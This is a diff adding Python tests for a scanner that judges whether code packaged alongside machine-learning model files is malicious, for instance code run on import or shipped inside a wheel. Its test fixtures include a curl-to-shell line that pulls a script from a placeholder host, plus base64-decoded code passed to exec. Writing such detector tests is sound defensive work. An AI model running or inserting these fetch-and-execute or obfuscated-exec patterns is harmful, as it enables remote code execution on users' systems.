@@ -1,0 +1,123 @@
+"""Tests of code that belongs to a program, not to a model: what its place alone does not show."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+
+from agents.checks.artifacts.dispatch import scan_source
+from agents.checks.artifacts.scanning import BytesSource
+from schemas.severity import Verdict
+from tests.each import each
+
+_STARTS = (
+    b"import subprocess\nclass Tool:\n    def run(self, words):\n        subprocess.run(words)\n"
+)
+_FETCHES = (
+    b"import os\nclass A:\n    def run(self):\n        os.system('curl http://x.example/a|sh')\n"
+)
+_HIDES = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
+_INSTALLED = ("tool-1.dist-info/RECORD", "tool/__init__.py", "tool/run.py")
+
+
+def _scan(name: str, content: bytes, *beside: str) -> Verdict:
+    return scan_source(name, BytesSource(content), frozenset((name, *beside))).verdict
+
+
+@each(
+    ("name", "beside"),
+    [
+        ("tool/run.py", _INSTALLED),
+        ("lib/site-packages/tool/run.py", tuple(f"lib/site-packages/{at}" for at in _INSTALLED)),
+        ("tool/run.py", (*_INSTALLED, "other/model.safetensors")),
+        ("tool/run.py", (*_INSTALLED, "tool/tests/data/a.pkl")),
+        ("src/tool/run.py", ("pyproject.toml", "README.md")),
+        ("src/tool/run.py", ("setup.cfg",)),
+        ("env/tool/run.py", ("pyproject.toml", *(f"env/{at}" for at in _INSTALLED), "model.bin")),
+    ],
+)
+def test_a_program_may_start_processes(name, beside):
+    assert _scan(name, _STARTS, *beside) is Verdict.CLEAN
+
+
+@each(
+    ("name", "beside"),
+    [
+        ("run.py", ()),
+        ("run.py", ("model.safetensors",)),
+        ("tool/run.py", (*_INSTALLED, "tool/weights.bin")),
+        ("tool/run.py", (*_INSTALLED, "tool/config.json")),
+        ("src/tool/run.py", ("pyproject.toml", "model.safetensors")),
+        ("src/tool/run.py", ("pyproject.toml", "checkpoints/config.json")),
+        ("src/tool/run.py", ("pyproject.toml", "hubconf.py")),
+        ("tool/modeling_tool.py", _INSTALLED),
+        ("tool/handler.py", _INSTALLED),
+        ("hubconf.py", ("pyproject.toml",)),
+        ("conftest.py", ("pyproject.toml",)),
+        ("setup.py", ()),
+        ("sitecustomize.py", _INSTALLED),
+        ("elsewhere/run.py", ("project/pyproject.toml",)),
+    ],
+)
+def test_code_that_a_loader_may_run_is_judged_as_a_models(name, beside):
+    assert _scan(name, _STARTS, *beside) is Verdict.MALICIOUS
+
+
+@each("content", [_FETCHES, _HIDES])
+def test_hostile_code_is_hostile_in_a_program_too(content):
+    assert _scan("tool/run.py", content, *_INSTALLED) is Verdict.MALICIOUS
+
+
+@each(
+    ("content", "names", "verdict"),
+    [
+        (_STARTS, _INSTALLED, Verdict.CLEAN),
+        (_FETCHES, _INSTALLED, Verdict.MALICIOUS),
+        (_HIDES, _INSTALLED, Verdict.MALICIOUS),
+        (_STARTS, _INSTALLED[1:], Verdict.MALICIOUS),
+        (_STARTS, (*_INSTALLED, "tool/model.bin"), Verdict.MALICIOUS),
+    ],
+)
+def test_a_wheel_is_judged_as_what_it_installs(content, names, verdict):
+    archive = io.BytesIO()
+    with zipfile.ZipFile(archive, "w") as wheel:
+        for name in names:
+            wheel.writestr(name, content if name.endswith("run.py") else b"{}\n")
+    report = scan_source("tool-1-py3-none-any.whl", BytesSource(archive.getvalue()))
+    assert report.verdict is verdict
+
+
+def test_native_code_of_a_program_is_unsupported():
+    program = b"\x7fELF" + bytes(60)
+    assert _scan("tool/a.so", program, *_INSTALLED) is Verdict.UNSUPPORTED
+    assert _scan("a.so", program, "model.safetensors") is Verdict.MALICIOUS
+
+
+@each(
+    ("condition", "verdict"),
+    [
+        ("__name__ == '__main__'", Verdict.CLEAN),
+        ("'__main__' == __name__", Verdict.CLEAN),
+        ("x and __name__ == '__main__'", Verdict.CLEAN),
+        ("x or __name__ == '__main__'", Verdict.MALICIOUS),
+        ("__name__ == __name__", Verdict.MALICIOUS),
+        ("__name__ == 'modeling_tool'", Verdict.MALICIOUS),
+        ("__name__ != '__main__'", Verdict.MALICIOUS),
+    ],
+)
+def test_only_a_main_guard_keeps_code_from_running_on_import(condition, verdict):
+    text = f"import subprocess, x\nif {condition}:\n    subprocess.run(x.words)\n"
+    assert _scan("modeling_tool.py", text.encode()) is verdict
+
+
+@each(
+    "text",
+    [
+        "class A:\n    importer = staticmethod(__import__)\n",
+        "from ctypes import WinDLL\nlibrary = WinDLL('crypt32.dll')\n",
+        "import sysconfig, pathlib\na = pathlib.Path(sysconfig.get_path('scripts'))\n",
+        "from pip._internal.models.index import PyPI\nPyPI.file_storage_domain()\n",
+    ],
+)
+def test_what_libraries_do_is_not_malicious(text):
+    assert _scan("modeling_tool.py", text.encode()) in {Verdict.CLEAN, Verdict.SUSPICIOUS}
